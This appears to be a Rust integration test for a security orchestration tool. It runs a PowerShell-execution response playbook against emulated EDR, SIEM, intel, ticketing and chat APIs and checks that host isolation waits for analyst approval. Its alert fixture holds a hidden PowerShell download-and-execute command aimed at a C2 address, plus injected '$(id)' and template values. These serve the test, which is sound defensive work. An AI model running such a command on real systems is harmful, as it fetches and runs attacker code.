//! The shipped T1059 playbook, for real (not a dry-run), with every capability bound to a vendor
//! emulated on 127.0.0.1:0: Elasticsearch answers the SIEM questions, CrowdStrike the device
//! question, VirusTotal the hash, TheHive takes the ticket, Slack the notice, and the built-in
//! external dynamic list waits for blocks. Containment needs an analyst's approval, so the run
//! first parks with nothing contained and nothing blocked — while the analysis, the ticket and
//! the notice went through the vendors' documented APIs. An analyst then approves each gate at
//! the console and the run resumes: the host is isolated once, the C2 address is on the dynamic
//! list, and the ticket records the containment.

use emulators::{crowdstrike, elasticsearch, slack, thehive, virustotal};
use serde_json::json;
use std::sync::{Arc, Mutex};
use tests::{T1059, VendorUrls, riposte, root, t1059_vendors, tempdir};

const HASH: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const C2: &str = "185.220.101.6";

fn alert() -> serde_json::Value {
    json!({
        "@timestamp": "2026-11-28T08:00:00.000Z",
        "event": {"id": "evt-t1059-e2e", "category": ["process"], "type": ["start"]},
        "host": {"name": "WS-7", "os": {"family": "windows"}},
        "user": {"name": "bob", "domain": "CORP"},
        "process": {
            "entity_id": "{proc-1}",
            "name": "powershell.exe",
            "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "command_line": format!("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{C2}/stage.ps1')\" {{{{alert.user.name}}}} $(id)"),
            "hash": {"sha256": HASH},
            "parent": {"entity_id": "{proc-0}", "name": "WINWORD.EXE", "executable": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}
        },
        "threat": {"technique": {"id": ["T1059.001"]}}
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t1059_runs_against_every_vendor_parks_containment_and_contains_once_approved() {
    // SIEM: a related alert, C2-like connections and a DNS query after the process started.
    let es = elasticsearch::Es::new("ZXM6a2V5");
    es.index(".alerts-security.alerts-default", json!({"@timestamp": "2026-11-28T07:30:00.000Z", "kibana.alert.rule.name": "Office child process", "host": {"name": "WS-7"}, "user": {"name": "bob"}}));
    for i in 0..6 {
        es.index("logs-endpoint", json!({"@timestamp": format!("2026-11-28T08:00:{:02}.000Z", 5 + i * 5), "event": {"category": ["network"]}, "host": {"name": "WS-7"}, "process": {"entity_id": "{proc-1}"}, "destination": {"ip": C2, "port": 443}}));
    }
    es.index("logs-endpoint", json!({"@timestamp": "2026-11-28T08:00:02.000Z", "event": {"category": ["network"]}, "host": {"name": "WS-7"}, "process": {"entity_id": "{proc-1}"}, "dns": {"question": {"name": "stage.evil-cdn.net"}}}));
    let es_emu = emulators::serve(elasticsearch::router(es.clone())).await;
    // EDR
    let cs = crowdstrike::State::new("falcon-id", "falcon-secret");
    cs.add_device("aid-7", "WS-7", "normal");
    let cs_emu = emulators::serve(crowdstrike::router(cs.clone())).await;
    // Intel
    let vt: virustotal::Shared = Arc::new(Mutex::new(virustotal::VtState::default()));
    vt.lock().unwrap().add_file(HASH, 41, 2, 0, 20);
    let vt_emu = emulators::serve(virustotal::router(vt.clone())).await;
    // Tickets and chat
    let hive: thehive::Shared = Arc::new(Mutex::new(thehive::HiveState::default()));
    let hive_emu = emulators::serve(thehive::router(hive.clone())).await;
    let sl: slack::Shared = Arc::new(Mutex::new(slack::SlackState::default()));
    sl.lock().unwrap().channel("C0SOC", "soc-alerts", true);
    let sl_emu = emulators::serve(slack::router(sl.clone())).await;

    let dir = tempdir("t1059-vendors");
    for (f, v) in [
        ("es", "ZXM6a2V5"),
        ("cs_id", "falcon-id"),
        ("cs_secret", "falcon-secret"),
        ("vt", virustotal::API_KEY),
        ("hive", thehive::API_KEY),
        ("slack", slack::TOKEN),
    ] {
        std::fs::write(dir.join(f), v).unwrap();
    }
    std::fs::write(dir.join("alert.json"), alert().to_string()).unwrap();
    let fast = "limits: {backoff: 1ms, max_backoff: 2ms, per_second: 10000, concurrency: 8}";
    let cfg = dir.join("riposte.yaml");
    std::fs::write(
        &cfg,
        format!(
            "data_dir: data\nplaybooks: [{}]\n{}",
            root().join("playbooks/library").display(),
            t1059_vendors(
                &VendorUrls {
                    siem: &es_emu.url,
                    edr: &cs_emu.url,
                    intel: &vt_emu.url,
                    tickets: &hive_emu.url,
                    chat: &sl_emu.url,
                },
                fast,
                "vendor: edl",
            )
        ),
    )
    .unwrap();

    let check = riposte!(["config", "check", "--config", cfg.to_str().unwrap()]);
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stdout)
    );

    let data = dir.join("data");
    let args: Vec<String> = [
        "run",
        "--playbook",
        root().join(T1059).to_str().unwrap(),
        "--alert",
        dir.join("alert.json").to_str().unwrap(),
        "--config",
        cfg.to_str().unwrap(),
        "--data-dir",
        data.to_str().unwrap(),
        "--format",
        "json",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let o = tokio::task::spawn_blocking(move || riposte!(&args))
        .await
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.success(),
        "{out}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let rep: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();

    // The analysis used the vendors' answers.
    let fact = |id: &str| {
        rep["facts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["id"] == id)
            .cloned()
            .unwrap_or(json!(null))
    };
    assert_eq!(
        fact("related_alert_count")["value"],
        1,
        "{}",
        fact("related_alert_count")
    );
    assert_eq!(fact("known_malicious_file")["value"], 41);
    assert!(
        fact("external_destinations")["value"]
            .to_string()
            .contains(C2),
        "{}",
        fact("external_destinations")
    );
    assert!(
        fact("beaconing")["value"]
            .as_str()
            .unwrap_or("")
            .contains(&format!("{C2} x6")),
        "{}",
        fact("beaconing")
    );
    assert_eq!(rep["escalation"]["escalate"], true, "{}", rep["escalation"]);
    // High-confidence execution is Tier 2 at critical severity with the host's isolation
    // proposed; "immediate" is kept for lateral movement, privileged use and credential theft.
    assert_eq!(
        rep["escalation"]["severity"], "critical",
        "{}",
        rep["escalation"]
    );
    assert_eq!(
        rep["escalation"]["immediate"], false,
        "{}",
        rep["escalation"]
    );

    // The ticket and the notice went out once, with the findings, alert text as inert data.
    {
        let h = hive.lock().unwrap();
        assert_eq!(h.alerts().len(), 1);
        let t = &h.alerts()[0];
        assert_eq!(t["source"], "riposte");
        assert!(t["sourceRef"].as_str().unwrap().starts_with("riposte-run-"));
        let d = t["description"].as_str().unwrap();
        assert!(
            d.contains("WS-7") && d.contains("{{alert.user.name}}") && d.contains("$(id)"),
            "{d}"
        );
    }
    assert_eq!(sl.lock().unwrap().messages.len(), 1);
    // The SIEM was asked about this host; the EDR only looked.
    assert!(es_emu.recorder.received().iter().any(|r| {
        r.path
            .starts_with("/.alerts-security.alerts-default/_search")
            && r.body.contains("WS-7")
    }));
    assert_eq!(
        cs_emu
            .recorder
            .count("POST", "/devices/entities/devices-actions/v2"),
        0,
        "no containment before approval"
    );
    assert_eq!(cs.status("aid-7").as_deref(), Some("normal"));

    // Containment waits for an analyst; nothing was blocked either.
    assert_eq!(rep["status"], "awaiting_approval", "{}", rep["status"]);
    let iso = rep["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["step"] == "isolate_host");
    assert!(
        iso.is_none() || iso.unwrap()["status"] != "completed",
        "{rep}"
    );
    let edl = riposte!(["runs", "list", "--data-dir", data.to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&edl.stdout).contains("awaiting_approval"));

    // An analyst approves each containment gate at the console; the run resumes after each.
    let d = data.to_str().unwrap().to_owned();
    let mut approved = Vec::new();
    for _ in 0..8 {
        let list = riposte!(["approvals", "list", "--data-dir", &d]);
        let list = String::from_utf8_lossy(&list.stdout).into_owned();
        let Some((run, step)) = list.lines().find_map(|l| {
            let mut w = l.split_whitespace();
            let run = w.next()?;
            run.starts_with("run-")
                .then(|| (run.to_owned(), w.next().unwrap_or_default().to_owned()))
        }) else {
            break;
        };
        let a = riposte!([
            "approve",
            &run,
            &step,
            "--reason",
            "confirmed C2 beaconing",
            "--data-dir",
            &d
        ]);
        assert!(a.status.success(), "{}", String::from_utf8_lossy(&a.stderr));
        approved.push(step);
        let args: Vec<String> = [
            "runs",
            "resume",
            &run,
            "--playbook",
            root().join(T1059).to_str().unwrap(),
            "--config",
            cfg.to_str().unwrap(),
            "--data-dir",
            &d,
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let r = tokio::task::spawn_blocking(move || riposte!(&args))
            .await
            .unwrap();
        assert!(
            r.status.success(),
            "{}\n{}",
            String::from_utf8_lossy(&r.stdout),
            String::from_utf8_lossy(&r.stderr)
        );
    }
    assert!(
        approved.contains(&"isolate_host".to_owned()) && approved.contains(&"block_ips".to_owned()),
        "{approved:?}"
    );
    let list = riposte!(["runs", "list", "--data-dir", &d]);
    assert!(
        String::from_utf8_lossy(&list.stdout).contains("completed"),
        "{}",
        String::from_utf8_lossy(&list.stdout)
    );
    // Host isolated once; the C2 address on the dynamic list; the ticket records the containment.
    assert_eq!(
        cs_emu
            .recorder
            .count("POST", "/devices/entities/devices-actions/v2"),
        1
    );
    assert!(matches!(
        cs.status("aid-7").as_deref(),
        Some("contained" | "containment_pending")
    ));
    {
        let store = state::Store::open(&data).unwrap();
        let now = chrono_now();
        let ips: Vec<String> = store
            .edl_list("ip", now)
            .unwrap()
            .into_iter()
            .map(|e| e.value)
            .collect();
        assert!(ips.contains(&C2.to_owned()), "{ips:?}");
    }
    {
        let h = hive.lock().unwrap();
        assert_eq!(h.alerts().len(), 1, "still one ticket");
        assert!(
            !h.comments.is_empty(),
            "the containment is recorded on the ticket"
        );
    }

    // The timeline shows each step, its attempt, how long it took, and who approved what.
    let run_id = rep["run_id"].as_str().unwrap().to_owned();
    let show = riposte!(["runs", "show", &run_id, "--data-dir", &d]);
    let show = String::from_utf8_lossy(&show.stdout);
    assert!(
        show.contains("started   isolate_host attempt 1 edr.isolate_host (mutate)"),
        "{show}"
    );
    assert!(
        show.lines()
            .any(|l| l.contains("completed isolate_host ok (") && l.ends_with(" ms)")),
        "{show}"
    );
    assert!(
        show.contains("approval isolate_host") && show.contains("local:"),
        "{show}"
    );

    // Every request went to the audit log, without a credential.
    let audit = riposte!(["audit", "export", "--data-dir", data.to_str().unwrap()]);
    let audit = String::from_utf8_lossy(&audit.stdout);
    assert!(
        audit.matches("\"request.sent\"").count() >= 6,
        "requests audited"
    );
    for secret in [
        "ZXM6a2V5",
        "falcon-secret",
        virustotal::API_KEY,
        thehive::API_KEY,
        slack::TOKEN,
    ] {
        assert!(
            !audit.contains(secret),
            "a credential reached the audit log"
        );
    }
}

fn chrono_now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}
